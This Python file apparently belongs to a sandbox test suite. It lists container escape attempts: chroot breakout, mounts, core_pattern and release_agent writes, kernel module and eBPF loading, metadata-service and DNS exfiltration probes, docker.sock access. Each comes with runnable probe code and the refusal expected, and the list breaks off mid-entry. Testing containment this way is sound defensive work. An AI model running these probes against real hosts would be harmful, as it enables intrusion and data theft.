"""Attacks on sandboxes as a table: what each does, where it is known from, and what must be true afterwards.

The code of an attack is Python that runs inside. It prints one word for each try: the name of the error that refused
it, or `done`, or a word of its own. `held` are the words that mean that the attack failed. What it could have changed
on the host is looked at after each one; see `sandbox_attack_rig`.
"""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Mapping
from typing import Any

REFUSED = frozenset({"EPERM", "EACCES"})
ABSENT = frozenset({"ENOENT", "ENOTDIR"})
READ_ONLY = frozenset({"EROFS"})
CLOSED = REFUSED | ABSENT | READ_ONLY
UNREACHABLE = frozenset({"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL"})
NO_CALL = frozenset({"EPERM", "ENOSYS"})

GVISOR, USER = "gvisor", "user"
AWAY, BARE = "away", "bare"


@dataclasses.dataclass(frozen=True, kw_only=True)
class Attack:
    """One attack.

    Attributes:
        name: what is tried.
        kind: heading under which it is shown.
        source: where it is known from.
        holds: what protects, in words.
        code: what runs inside, after `HARNESS`.
        held: words that mean that it failed.
        alone: it may end everything that runs beside it, so it gets a sandbox of its own.
        other: words that mean the same there: by `gvisor`, or `user` for a user inside who is not root.
        left_out: reason by `gvisor` or `user`, where it would ask nothing.
        control: how the code is shown to work where nothing contains it, without lasting harm: by `AWAY` in namespaces
            to throw away, or by `BARE` beside the things that it is aimed at.
        x86_64: made of machine code or numbers of that architecture.
    """

    name: str
    kind: str
    source: str
    holds: str
    code: str
    held: frozenset[str] = REFUSED
    alone: bool = False
    other: Mapping[str, frozenset[str]] = dataclasses.field(default_factory=dict)
    left_out: Mapping[str, str] = dataclasses.field(default_factory=dict)
    control: str = ""
    x86_64: bool = False

    def program(self, facts: Mapping[str, Any]) -> str:
        """Return what runs, with what it may know of the host."""
        return f"{HARNESS}\nHOST = __import__('json').loads({json.dumps(facts)!r})\n{self.code}"

    def words(self, *places: str) -> frozenset[str]:
        """Return the words that mean that it failed there."""
        return self.held.union(*(self.other.get(one, frozenset()) for one in places))

    def escaped(self, words: list[str], *places: str) -> list[str]:
        """Return the words that mean that it did not fail; an attack that says nothing has not run."""
        return [one for one in words if one not in self.words(*places)] if words else ["(said nothing)"]


HARNESS = """
import ctypes, errno, os, socket, stat, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ARM = os.uname().machine == 'aarch64'
NUMBERS = dict(
    ptrace=(101, 117), process_vm_readv=(310, 270), process_vm_writev=(311, 271), kcmp=(312, 272),
    pidfd_open=(434, 434),
    pidfd_getfd=(438, 438), tgkill=(234, 131), unshare=(272, 97), setns=(308, 268), clone=(56, 220), clone3=(435, 435),
    mount=(165, 40), umount2=(166, 39), pivot_root=(155, 41), chroot=(161, 51), open_tree=(428, 428),
    move_mount=(429, 429), fsopen=(430, 430), fsmount=(432, 432), mount_setattr=(442, 442), bpf=(321, 280),
    perf_event_open=(298, 241), userfaultfd=(323, 282), io_uring_setup=(425, 425), add_key=(248, 217),
    request_key=(249, 218), keyctl=(250, 219), init_module=(175, 105), finit_module=(313, 273),
    delete_module=(176, 106),
    kexec_load=(246, 104), kexec_file_load=(320, 294), reboot=(169, 142), syslog=(103, 116), fanotify_init=(300, 262),
    open_by_handle_at=(304, 265), swapon=(167, 224), acct=(163, 89), quotactl=(179, 60), settimeofday=(164, 170),
    clock_settime=(227, 112), adjtimex=(159, 171), clock_adjtime=(305, 266), sethostname=(170, 161),
    setdomainname=(171, 162), capset=(126, 91), prctl=(157, 167), ioprio_set=(251, 30), mlockall=(151, 230),
    shmget=(29, 194), shmat=(30, 196), msgget=(68, 186), semget=(64, 190), mq_open=(240, 180), vhangup=(153, 58),
    move_pages=(279, 239))
def check(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), 'refused')
    return result
def call(name, *arguments):
    made = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return check(libc.syscall(ctypes.c_long(NUMBERS[name][ARM]), *made))
def attempt(action, *arguments):
    try:
        action(*arguments)
    except socket.timeout:
        return 'timeout'
    except socket.gaierror:
        return 'no_name'
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
    except ValueError:
        return 'EPERM'  # how the standard library tells of a limit that may not be raised
    return 'done'
def write_back(path):
    with open(path) as stream:
        text = stream.read()
    with open(path, 'w') as stream:
        stream.write(text)
def opened(path, flags=os.O_WRONLY):
    os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
def in_child(action):
    pid = os.fork()
    if pid == 0:
        try:
            word = attempt(action)
        finally:
            os.write(1, (word + ' ').encode())
            os._exit(0)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        print('SIGNAL%d' % os.WTERMSIG(status), flush=True)
def tell(*words):
    print(*words, flush=True)
"""

PROCESSES, NAMESPACES, KERNEL, NETWORK, NEIGHBOURS, LIMITS, PRIVILEGES, FILES, NAMES = (
    "Processes and the supervisor",
    "Namespaces, mounts and roots",
    "Kernel interfaces, devices, /proc and /sys",
    "Network",
    "Other sandboxes and the host's shared objects",
    "Limits",
    "Privileges",
    "Files and descriptors",
    "Clock and names",
)

ATTACKS: tuple[Attack, ...] = (
    # -- processes ----------------------------------------------------------------------------------------------------
    Attack(
        name="kill the supervisor inside with every signal",
        kind=PROCESSES,
        source="container checklists: kill of PID 1",
        holds="the kernel shields the first process of a pid namespace; with gVisor a filter",
        code="tell(*{attempt(os.kill, 1, number) for number in range(1, 65)}, attempt(os.killpg, 1, 9))",
        held=REFUSED | {"done", "EINVAL", "ESRCH"},
    ),
    Attack(
        name="trace the supervisor",
        kind=PROCESSES,
        source="container checklists: CAP_SYS_PTRACE",
        holds="not dumpable; seccomp",
        code="""
word = ctypes.create_string_buffer(16)
tell(attempt(call, 'ptrace', 16, 1, 0, 0), attempt(call, 'ptrace', 0x4206, 1, 0, 0),
     attempt(call, 'process_vm_readv', 1, word, 1, word, 1, 0), attempt(opened, '/proc/1/mem', os.O_RDWR),
     attempt(call, 'kcmp', 1, os.getpid(), 0, 0, 0))
""",
        held=REFUSED | {"ENOSYS"},
    ),
    Attack(
        name="read the supervisor through /proc/1",
        kind=PROCESSES,
        source="container checklists: /proc/1/root, /proc/1/environ",
        holds="not dumpable, so its files belong to nobody inside",
        code="""
names = 'mem environ maps auxv syscall stack io'.split()
tell(*{attempt(lambda: open('/proc/1/' + one, 'rb').read(1)) for one in names},
     *{attempt(os.readlink, '/proc/1/' + one) for one in ('root', 'cwd', 'exe')}, attempt(os.listdir, '/proc/1/fd'))
""",
        left_out={GVISOR: "its /proc/1 can be read and tells nothing of the host, as another test shows"},
    ),
    Attack(
        name="trace, read and write processes beside oneself",
        kind=PROCESSES,
        source="seccomp profiles of container engines: ptrace, process_vm_*, pidfd_getfd, kcmp",
        holds="seccomp",
        code="""
child = os.fork()
if child == 0:
    time.sleep(60)
    os._exit(0)
page = ctypes.create_string_buffer(8)
vector = struct.pack('PN', ctypes.addressof(page), 8)
tell(attempt(call, 'ptrace', 0x4206, child, 0, 0),
     attempt(call, 'process_vm_readv', child, vector, 1, vector, 1, 0),
     attempt(call, 'process_vm_writev', child, vector, 1, vector, 1, 0),
     attempt(lambda: call('pidfd_getfd', call('pidfd_open', child, 0), 1, 0)),
     attempt(call, 'kcmp', child, os.getpid(), 0, 0, 0))
os.kill(child, 9)
os.wait()
""",
        held=NO_CALL,
        other={GVISOR: frozenset({"ENOSYS"})},
        control=AWAY,
    ),
    Attack(
        name="signal and trace processes of the host",
        kind=PROCESSES,
        source="container checklists: hostPID",
        holds="a pid namespace of its own",
        code="""
pid = HOST['pid']
tell(attempt(os.kill, pid, 9), attempt(os.killpg, pid, 9), attempt(call, 'tgkill', pid, pid, 9),
     attempt(call, 'pidfd_open', pid, 0), attempt(os.listdir, '/proc/%d' % pid), attempt(call, 'ptrace', 16, pid, 0, 0))
""",
        held=frozenset({"ESRCH", "ENOENT", "EPERM", "ENOSYS", "EINVAL"}),
        control=BARE,
    ),
    Attack(
        name="kill everything that can be reached (kill -1), and one's own group and session",
        kind=PROCESSES,
        source="signals to process groups and sessions",
        holds="a pid namespace of its own; the supervisor leads a session that no program is in",
        code="""
sys.stdout.write(attempt(os.kill, -1, 9) + ' ')
sys.stdout.write('alive ' if os.getsid(0) == os.getpid() else 'shared_session ')
sys.stdout.flush()
os.kill(0, 9)
""",
        held=frozenset({"done", "alive", "ESRCH", "EPERM"}),
        alone=True,
    ),
    Attack(
        name="leave daemons that ignore signals and zombies that nobody waits for",
        kind=PROCESSES,
        source="daemonised and zombie processes",
        holds="the supervisor reaps; with the sandbox the kernel kills all of it",
        code="""
import signal
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in set(range(1, 32)) - {9, 19, 17}:
                signal.signal(number, signal.SIG_IGN)
            os.closerange(0, 3)
            os.execvp('sleep', ['sleep', HOST['sleep']])
        os._exit(0)
for _ in range(5):
    if os.fork() == 0:
        os._exit(0)
tell('left')
""",
        held=frozenset({"left"}),
        alone=True,
    ),
    # -- namespaces ---------------------------------------------------------------------------------------------------
    Attack(
        name="unshare or clone into new namespaces",
        kind=NAMESPACES,
        source="container checklists: user namespaces; CVE-2022-0185",
        holds="seccomp; the namespace's own bounds are 0",
        code="""
FLAGS = [0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000, 0x80]
for flag in FLAGS:
    in_child(lambda: call('unshare', flag))
def forked(name, *arguments):
    if call(name, *arguments) == 0:
        os._exit(0)
    os.wait()
in_child(lambda: forked('clone', 0x10000000 | 17, 0, 0, 0, 0))
in_child(lambda: forked('clone3', struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88))
""",
        held=NO_CALL,
        other={GVISOR: frozenset({"EINVAL"})},
        control=AWAY,
    ),
    Attack(
        name="enter other namespaces (setns)",
        kind=NAMESPACES,
        source="nsenter, container checklists",
        holds="seccomp; namespaces of the supervisor cannot be opened",
        code="""
def enter(path):
    call('setns', os.open(path, os.O_RDONLY), 0)
for name in ('mnt', 'net', 'uts', 'ipc'):
    in_child(lambda: enter('/proc/1/ns/' + name))
    in_child(lambda: enter('/proc/self/ns/' + name))
""",
        held=REFUSED | {"ENOENT"},
        other={GVISOR: frozenset({"ENOSYS"})},
        control=AWAY,
    ),
    Attack(
        name="break out by chroot, pivot_root and a kept directory",
        kind=NAMESPACES,
        source="chroot escapes",
        holds="seccomp, and CAP_SYS_CHROOT is gone; the root is a mount of its own",
        code="""
def escape():
    os.makedirs('/tmp/jail', exist_ok=True)
    kept = os.open('/', os.O_RDONLY)
    os.chroot('/tmp/jail')
    os.fchdir(kept)
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
in_child(escape)
in_child(lambda: call('pivot_root', b'/tmp', b'/tmp'))
os.chdir('/')
for _ in range(64):
    os.chdir('..')
tell(attempt(os.stat, '.' + HOST['secret']))
""",
        held=NO_CALL | ABSENT | {"EACCES"},
        control=AWAY,
    ),
    Attack(
        name="mount proc, sysfs, overlay, tmpfs, cgroup, or a bind of the root",
        kind=NAMESPACES,
        source="container checklists: CAP_SYS_ADMIN; CVE-2023-0386 (overlay)",
        holds="seccomp, and CAP_SYS_ADMIN is gone",
        code="""
os.makedirs('/tmp/at', exist_ok=True)
for kind in (b'proc', b'sysfs', b'tmpfs', b'cgroup', b'cgroup2', b'devpts', b'mqueue', b'debugfs'):
    in_child(lambda: call('mount', b'none', b'/tmp/at', kind, 0, None))
in_child(lambda: call('mount', b'o', b'/tmp/at', b'overlay', 0, b'lowerdir=/etc:/usr'))
in_child(lambda: call('mount', b'/', b'/tmp/at', None, 4096 | 16384, None))
in_child(lambda: call('fsopen', b'tmpfs', 0))
in_child(lambda: call('open_tree', -100, b'/', 1))
""",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="unmount or remount what masks /proc and /sys",
        kind=NAMESPACES,
        source="CVE-2025-31133 (runc) and the like: masked paths",
        holds="seccomp, and CAP_SYS_ADMIN is gone",
        code="""
for path in (b'/proc/sys', b'/proc', b'/dev', b'/sys', b'/'):
    in_child(lambda: call('umount2', path, 2))
    in_child(lambda: call('mount', None, path, None, 32 | 4096, None))
in_child(lambda: call('mount_setattr', -100, b'/proc/sys', 0x8000, struct.pack('QQQQ', 0, 1, 0, 0), 32))
""",
        held=NO_CALL,
        control=AWAY,
    ),
    # -- kernel -------------------------------------------------------------------------------------------------------
    Attack(
        name="register a handler of crashes (core_pattern)",
        kind=KERNEL,
        source="container checklists: core_pattern escape",
        holds="/proc/sys is read only, and belongs to the host's root",
        code="tell(attempt(write_back, '/proc/sys/kernel/core_pattern'))",
        held=CLOSED,
        control=AWAY,
    ),
    Attack(
        name="register helpers of the kernel (modprobe, uevent_helper, binfmt_misc, poweroff_cmd)",
        kind=KERNEL,
        source="container checklists: writable /proc/sys/kernel/modprobe, /sys/kernel/uevent_helper",
        holds="/proc/sys is read only; /sys is empty",
        code="""
tell(attempt(write_back, '/proc/sys/kernel/modprobe'), attempt(write_back, '/proc/sys/kernel/poweroff_cmd'),
     attempt(opened, '/sys/kernel/uevent_helper'), attempt(opened, '/proc/sys/fs/binfmt_misc/register'))
""",
        held=CLOSED,
        control=AWAY,
    ),
    Attack(
        name="change settings of the kernel below /proc/sys",
        kind=KERNEL,
        source="container checklists: writable /proc/sys",
        holds="/proc/sys is read only",
        code="""
found = [os.path.join(top, name) for top, _, names in os.walk('/proc/sys') for name in names]
found = [one for one in found if os.stat(one).st_mode & 0o222]
tell(*{attempt(opened, one) for one in found}, 'looked')
""",
        held=CLOSED | {"looked"},
        left_out={GVISOR: "its settings are its own kernel's, and end with it"},
    ),
    Attack(
        name="reboot by sysrq",
        kind=KERNEL,
        source="container checklists: /proc/sysrq-trigger",
        holds="it belongs to the host's root, who is nobody inside",
        code="tell(attempt(opened, '/proc/sysrq-trigger'))",
        held=CLOSED,
        control=AWAY,
    ),
    Attack(
        name="read what /proc tells of the kernel and of the machine",
        kind=KERNEL,
        source="container checklists: kallsyms, kcore, keys, timer_list, sched_debug",
        holds="masked, or of the host's root",
        code="""
def tells(path):
    with open(path, 'rb') as stream:
        text = stream.read(4096)
    if not text or not text.strip(b'0 ').strip():
        raise FileNotFoundError(errno.ENOENT, 'nothing')
tell(*{attempt(tells, '/proc/' + one) for one in
       'kallsyms kcore keys timer_list kmsg cmdline config.gz sched_debug slabinfo vmallocinfo iomem'.split()
       if one != 'iomem'})
""",
        held=CLOSED | {"EIO"},
        left_out={GVISOR: "what is there is made up by its own kernel, as another test shows"},
        control=AWAY,
    ),
    Attack(
        name="open the memory, ports, disks and consoles of the machine in /dev",
        kind=KERNEL,
        source="container checklists: privileged devices",
        holds="six harmless devices are in /dev, which is read only",
        code="""
names = 'mem kmem port kmsg kvm fuse vda sda nvme0n1 console tty0 vsock vhost-net net/tun mapper/control'.split()
for one in names:
    for flags in (os.O_RDWR, os.O_RDONLY):
        word = attempt(opened, '/dev/' + one, flags)
        tell(one if word == 'done' else word)
""",
        held=CLOSED | {"ENXIO"},
        other={GVISOR: frozenset({"fuse", "net/tun"})},  # devices of its own kernel, without a mount or a network
    ),
    Attack(
        name="make device nodes (mknod) and open them",
        kind=KERNEL,
        source="container checklists: CAP_MKNOD",
        holds="a user namespace, CAP_MKNOD is gone, Landlock, and every mount is nodev",
        code="""
place = '/tmp/node-%d' % os.getpid()
def make(kind, major, minor):
    try:
        os.mknod(place, kind | 0o600, os.makedev(major, minor))
        opened(place, os.O_RDONLY)
    finally:
        if os.path.lexists(place):
            os.unlink(place)
tell(attempt(make, stat.S_IFCHR, 1, 1), attempt(make, stat.S_IFCHR, 1, 11), attempt(make, stat.S_IFBLK, 254, 0),
     attempt(make, stat.S_IFBLK, 8, 0))
""",
        held=REFUSED | {"ENXIO", "EINVAL"},
        control=AWAY,
    ),
    Attack(
        name="change the host's device nodes that are shown (/dev/null)",
        kind=KERNEL,
        source="bind-mounted devices",
        holds="they belong to the host's root; /dev is read only",
        code="""
tell(attempt(os.chmod, '/dev/null', 0o600), attempt(os.chown, '/dev/zero', 0, 0), attempt(os.unlink, '/dev/full'),
     attempt(os.rename, '/dev/null', '/dev/nil'), attempt(opened, '/dev/new', os.O_WRONLY | os.O_CREAT))
""",
        held=CLOSED | {"EBUSY", "EXDEV"},
        left_out={GVISOR: "its devices are its own, in its memory"},
    ),
    Attack(
        name="load or remove kernel modules",
        kind=KERNEL,
        source="container checklists: CAP_SYS_MODULE",
        holds="seccomp, and CAP_SYS_MODULE is gone",
        code="""
tell(attempt(call, 'init_module', 0, 0, b''), attempt(call, 'finit_module', -1, b'', 0),
     attempt(call, 'delete_module', b'no_such_module', 0x800))
""",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="boot another kernel, or reboot (kexec, reboot)",
        kind=KERNEL,
        source="seccomp profiles of container engines",
        holds="seccomp, and CAP_SYS_BOOT is gone",
        code="""
tell(attempt(call, 'kexec_load', 0, 1 << 20, 0, 0), attempt(call, 'kexec_file_load', -1, -1, 0, b'', 0),
     attempt(call, 'reboot', 1, 2, 3, 0))
""",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="load eBPF",
        kind=KERNEL,
        source="seccomp profiles of container engines; CVE-2021-3490 and the like",
        holds="seccomp",
        code="tell(attempt(call, 'bpf', 0, struct.pack('IIII', 2, 4, 4, 1) + bytes(112), 128))",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="open performance counters",
        kind=KERNEL,
        source="seccomp profiles of container engines: perf_event_open",
        holds="seccomp",
        code="tell(attempt(call, 'perf_event_open', struct.pack('IIQ', 1, 128, 0) + bytes(112), 0, -1, -1, 0))",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="catch page faults (userfaultfd)",
        kind=KERNEL,
        source="heap sprays of kernel exploits",
        holds="seccomp",
        code="tell(attempt(call, 'userfaultfd', 0))",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="set up io_uring, which passes seccomp by",
        kind=KERNEL,
        source="CVE-2022-29582 and the like",
        holds="seccomp",
        code="tell(attempt(call, 'io_uring_setup', 4, ctypes.create_string_buffer(120)))",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="reach keys of the host (keyctl, add_key, request_key)",
        kind=KERNEL,
        source="container checklists: key rings are not namespaced; CVE-2016-0728",
        holds="seccomp",
        code="""
tell(attempt(call, 'add_key', b'user', b'rollmill-test', b'x', 1, -1), attempt(call, 'keyctl', 0, -3, 1),
     attempt(call, 'request_key', b'user', b'rollmill-test', None, 0))
""",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="read or clear the kernel's log",
        kind=KERNEL,
        source="container checklists: CAP_SYSLOG",
        holds="seccomp; there is no /dev/kmsg",
        code="""
tell(attempt(call, 'syslog', 3, ctypes.create_string_buffer(4096), 4096),
     attempt(opened, '/dev/kmsg', os.O_RDONLY))
""",
        held=NO_CALL | ABSENT,
        other={GVISOR: frozenset({"done"})},
        control=AWAY,
    ),
    Attack(
        name="call the kernel by the tables of other architectures (int 0x80, x32)",
        kind=KERNEL,
        source="seccomp bypasses",
        holds="seccomp ends who calls by another architecture; x32 numbers are unknown",
        code="""
import mmap
libc.syscall.argtypes = None
def x32():
    check(libc.syscall(ctypes.c_long(0x40000000 + 272), ctypes.c_long(0x4000000)))
def int80():
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex('53b836010000bb00000004cd805bc3'))  # unshare(CLONE_NEWUTS) as i386 knows it
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    result = function()
    if result < 0:
        raise OSError(-result, 'refused')
in_child(x32)
in_child(int80)
""",
        held=NO_CALL | {"SIGNAL31", "SIGNAL11", "EACCES"},
        control=AWAY,
        x86_64=True,
    ),
    Attack(
        name="use other calls that only an administrator needs (swapon, acct, quotactl, vhangup, fanotify)",
        kind=KERNEL,
        source="seccomp profiles of container engines",
        holds="seccomp",
        code="""
tell(attempt(call, 'swapon', b'/nonexistent', 0), attempt(call, 'acct', b'/nonexistent'),
     attempt(call, 'quotactl', 0x800002, b'/nonexistent', 0, 0), attempt(call, 'fanotify_init', 0, 0),
     attempt(call, 'move_pages', 0, 0, None, None, None, 0))
""",
        held=NO_CALL,
        control=AWAY,
    ),
    Attack(
        name="make calls that are newer than the filter, or counted over the whole machine (io_setup)",
        kind=KERNEL,
        source="kernels that outgrow a list of refused calls",
        holds="seccomp: what is not known does not exist",
        code="""
def raw(number):
    check(libc.syscall(ctypes.c_long(number), ctypes.c_long(1), ctypes.create_string_buffer(8)))
tell(attempt(raw, 0 if ARM else 206), attempt(raw, 480), attempt(raw, 1000))
""",
        held=frozenset({"ENOSYS"}),
        control=AWAY,
    ),
    # -- network ------------------------------------------------------------------------------------------------------
    Attack(
        name="ask the cloud's metadata service (169.254.169.254)",
        kind=NETWORK,
        source="container checklists: metadata credentials",
        holds="a network namespace with nothing but a loopback",
        code="""
one = socket.socket()
one.settimeout(2)
tell(attempt(one.connect, ('169.254.169.254', 80)))
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tell(attempt(one.sendto, b'x', ('169.254.169.254', 80)))
""",
        held=UNREACHABLE,
        control=AWAY,
    ),
    Attack(
        name="carry data out by DNS, or to any address",
        kind=NETWORK,
        source="DNS tunnels",
        holds="a network namespace with nothing but a loopback; no name server",
        code="""
for address in ('8.8.8.8', '1.1.1.1', '192.0.2.1', '10.0.0.1', '172.17.0.1', '224.0.0.1'):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tell(attempt(one.sendto, b'x', (address, 53)))
    one = socket.socket()
    one.settimeout(2)
    tell(attempt(one.connect, (address, 443)))
tell(attempt(socket.getaddrinfo, 'example.com', 80))
""",
        held=UNREACHABLE | {"no_name"},
    ),
    Attack(
        name="carry data out by IPv6",
        kind=NETWORK,
        source="egress rules that know IPv4 alone",
        holds="a network namespace with nothing but a loopback",
        code="""
for address in ('2001:4860:4860::8888', 'fd00:ec2::254', 'fe80::1', 'ff02::1'):
    def send():
        one = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        one.settimeout(2)
        one.sendto(b'x', (address, 53))
    tell(attempt(send))
""",
        held=UNREACHABLE | {"EINVAL", "EAFNOSUPPORT"},
    ),
    Attack(
        name="reach a service on the host's loopback",
        kind=NETWORK,
        source="container checklists: hostNetwork; CVE-2020-8558",
        holds="a network namespace of its own",
        code="""
one = socket.socket()
one.settimeout(2)
tell(attempt(one.connect, ('127.0.0.1', HOST['port'])))
""",
        held=frozenset({"ECONNREFUSED"}),
        control=BARE,
    ),
    Attack(
        name="send raw packets and sniff",
        kind=NETWORK,
        source="container checklists: CAP_NET_RAW; CVE-2020-14386",
        holds="seccomp allows four families; CAP_NET_RAW is gone",
        code="""
for family, protocol in ((socket.AF_INET, 1), (socket.AF_INET6, 58), (17, 3)):
    tell(attempt(socket.socket, family, socket.SOCK_RAW, protocol))
""",
        held=REFUSED | {"EAFNOSUPPORT", "EPROTONOSUPPORT"},
        control=AWAY,
    ),
    Attack(
        name="reach the host of a virtual machine or deep protocols (vsock, AF_ALG, netfilter, audit)",
        kind=NETWORK,
        source="CVE-2022-32250 and the like",
        holds="seccomp allows four families, and of netlink routes alone",
        code="""
tell(attempt(socket.socket, 40, socket.SOCK_STREAM), attempt(socket.socket, 38, socket.SOCK_SEQPACKET),
     *(attempt(socket.socket, 16, socket.SOCK_RAW, protocol) for protocol in (4, 9, 12, 15, 16)),
     attempt(socket.socket, 33, socket.SOCK_DGRAM), attempt(socket.socket, 31, socket.SOCK_RAW))
""",
        held=frozenset({"EAFNOSUPPORT", "EPERM"}),
        control=AWAY,
    ),
    Attack(
        name="make network devices and addresses",
        kind=NETWORK,
        source="container checklists: CAP_NET_ADMIN",
        holds="CAP_NET_ADMIN is gone",
        code="""
import fcntl
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address = struct.pack('16sH2s4s8x', b'lo:7', socket.AF_INET, b'', socket.inet_aton('192.0.2.9'))
route = socket.socket(16, socket.SOCK_RAW, 0)
def link():
    name = struct.pack('HH8s', 12, 3, b'evil0')
    kind = struct.pack('HH8s', 9, 1, b'dummy')
    info = struct.pack('HH', 4 + 12, 18) + kind
    body = struct.pack('BxHiII', 0, 0, 0, 0, 0) + name + info
    route.send(struct.pack('IHHII', 16 + len(body), 16, 0x1 | 0x4 | 0x400 | 0x200, 1, 0) + body)
    code = struct.unpack_from('i', route.recv(4096), 16)[0]
    if code:
        raise OSError(-code, 'refused')
tell(attempt(fcntl.ioctl, probe, 0x8916, address), attempt(link))
""",
        held=REFUSED | {"EOPNOTSUPP", "ENOTTY", "EINVAL"},
        control=AWAY,
    ),
    Attack(
        name="talk to daemons of the host by their sockets (Docker, containerd, D-Bus, systemd)",
        kind=NETWORK,
        source="container checklists: mounted docker.sock",
        holds="nothing of the host's /run is shown",
        code="""
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/crio/crio.sock',
             '/run/podman/podman.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', HOST['socket']):
    tell(attempt(socket.socket(socket.AF_UNIX).connect, path))
""",
        held=ABSENT | {"ECONNREFUSED"},
        other={GVISOR: frozenset({"EINVAL"})},
        control=BARE,
    ),
    # -- neighbours ---------------------------------------------------------------------------------------------------
    Attack(
        name="reach abstract sockets of the host and of another sandbox",
        kind=NEIGHBOURS,
        source="CVE-2020-15257 (containerd-shim)",
        holds="a network namespace of its own; Landlock's scopes",
        code="""
for name in HOST['abstract']:
    tell(attempt(socket.socket(socket.AF_UNIX).connect, chr(0) + name))
""",
        held=frozenset({"ECONNREFUSED", "EPERM"}),
        control=BARE,
    ),
    Attack(
        name="reach shared memory, queues and semaphores (System V) of the host and of another sandbox",
        kind=NEIGHBOURS,
        source="container checklists: hostIPC",
        holds="an IPC namespace of its own",
        code="""
for key in HOST['keys']:
    tell(attempt(call, 'shmget', key, 0, 0), attempt(call, 'msgget', key, 0), attempt(call, 'semget', key, 0, 0))
""",
        held=frozenset({"ENOENT", "ENOSYS"}),
        control=BARE,
    ),
    Attack(
        name="reach POSIX queues and /dev/shm of the host and of another sandbox",
        kind=NEIGHBOURS,
        source="container checklists: hostIPC",
        holds="an IPC namespace and a /dev/shm of its own",
        code="""
tell(*(attempt(opened, '/dev/shm/' + name, os.O_RDONLY) for name in HOST['shm']),
     attempt(call, 'mq_open', HOST['queue'][1:].encode(), 0, 0, None))
""",
        held=ABSENT | {"ENOSYS"},
        control=BARE,
    ),
    Attack(
        name="find another sandbox's files and processes",
        kind=NEIGHBOURS,
        source="shared hosts",
        holds="a mount and a pid namespace of its own; every sandbox has another range of ids",
        code="""
seen = []
for pid in set(filter(str.isdigit, os.listdir('/proc'))) - {str(os.getpid())}:
    try:
        with open('/proc/%s/cmdline' % pid) as stream:
            seen.append(HOST['neighbour'] in stream.read())
    except OSError:
        pass
tell('seen' if any(seen) else 'unseen', attempt(os.stat, '/workspace/' + HOST['neighbour']))
""",
        held=ABSENT | {"unseen"},
    ),
    # -- limits -------------------------------------------------------------------------------------------------------
    Attack(
        name="write to control groups",
        kind=LIMITS,
        source="container checklists: writable cgroups",
        holds="no cgroup file system is shown; they belong to the host's root",
        code="""
places = [line.split()[1] for line in open('/proc/mounts') if line.split()[2].startswith('cgroup')]
for line in open('/proc/self/cgroup') if os.path.exists('/proc/self/cgroup') else ():
    _, names, path = line.rstrip().split(':', 2)
    places += ['/sys/fs/cgroup' + path, '/sys/fs/cgroup/' + names + path]
places.append('/sys/fs/cgroup')
for place in dict.fromkeys(places):
    tell(attempt(os.mkdir, place + '/evil'))
    for name in ('cgroup.procs', 'memory.max', 'pids.max', 'memory.limit_in_bytes', 'cgroup.subtree_control'):
        tell(attempt(opened, place + '/' + name))
""",
        held=CLOSED,
    ),
    Attack(
        name="have the host run a program by a group's release_agent",
        kind=LIMITS,
        source="CVE-2022-0492",
        holds="no cgroup can be mounted or seen, and no user namespace made",
        code="""
def mounted():
    os.makedirs('/tmp/rdma', exist_ok=True)
    call('unshare', 0x10000000 | 0x20000 | 0x2000000)
    call('mount', b'cgroup', b'/tmp/rdma', b'cgroup', 0, b'rdma')
in_child(mounted)
found = [os.path.join(top, 'release_agent') for top, _, names in os.walk('/sys/fs/cgroup') if 'release_agent' in names]
tell(*{attempt(opened, one) for one in found}, 'looked')
""",
        held=CLOSED | {"looked"},
        other={GVISOR: frozenset({"EINVAL", "ENOSYS"})},
    ),
    Attack(
        name="raise one's own limits (setrlimit, prlimit)",
        kind=LIMITS,
        source="limits by rlimit alone",
        holds="hard limits, and CAP_SYS_RESOURCE is gone",
        code="""
import resource
kinds = [one for one in range(16) if resource.getrlimit(one)[1] != -1]
tell(*{attempt(resource.setrlimit, one, (resource.getrlimit(one)[0], resource.getrlimit(one)[1] + 1)) for one in kinds})
tell(*{attempt(resource.prlimit, os.getpid(), one, (-1, -1)) for one in kinds})
resource.setrlimit(resource.RLIMIT_DATA, (1 << 40, 1 << 40))
tell(attempt(resource.setrlimit, resource.RLIMIT_DATA, (1 << 41, 1 << 41)))
""",
        control=AWAY,
    ),
    Attack(
        name="raise the bounds of the user namespace",
        kind=LIMITS,
        source="nested containers",
        holds="/proc/sys is read only, and they are 0",
        code="""
names = 'user mnt net ipc uts pid cgroup time'.split()
for path in ['/proc/sys/user/max_%s_namespaces' % one for one in names]:
    tell(attempt(opened, path), 'none_more' if not os.path.exists(path) or int(open(path).read()) == 0 else 'more')
tell(attempt(opened, '/proc/sys/user/max_inotify_instances'))
""",
        held=CLOSED | {"none_more"},
        control=AWAY,
    ),
    Attack(
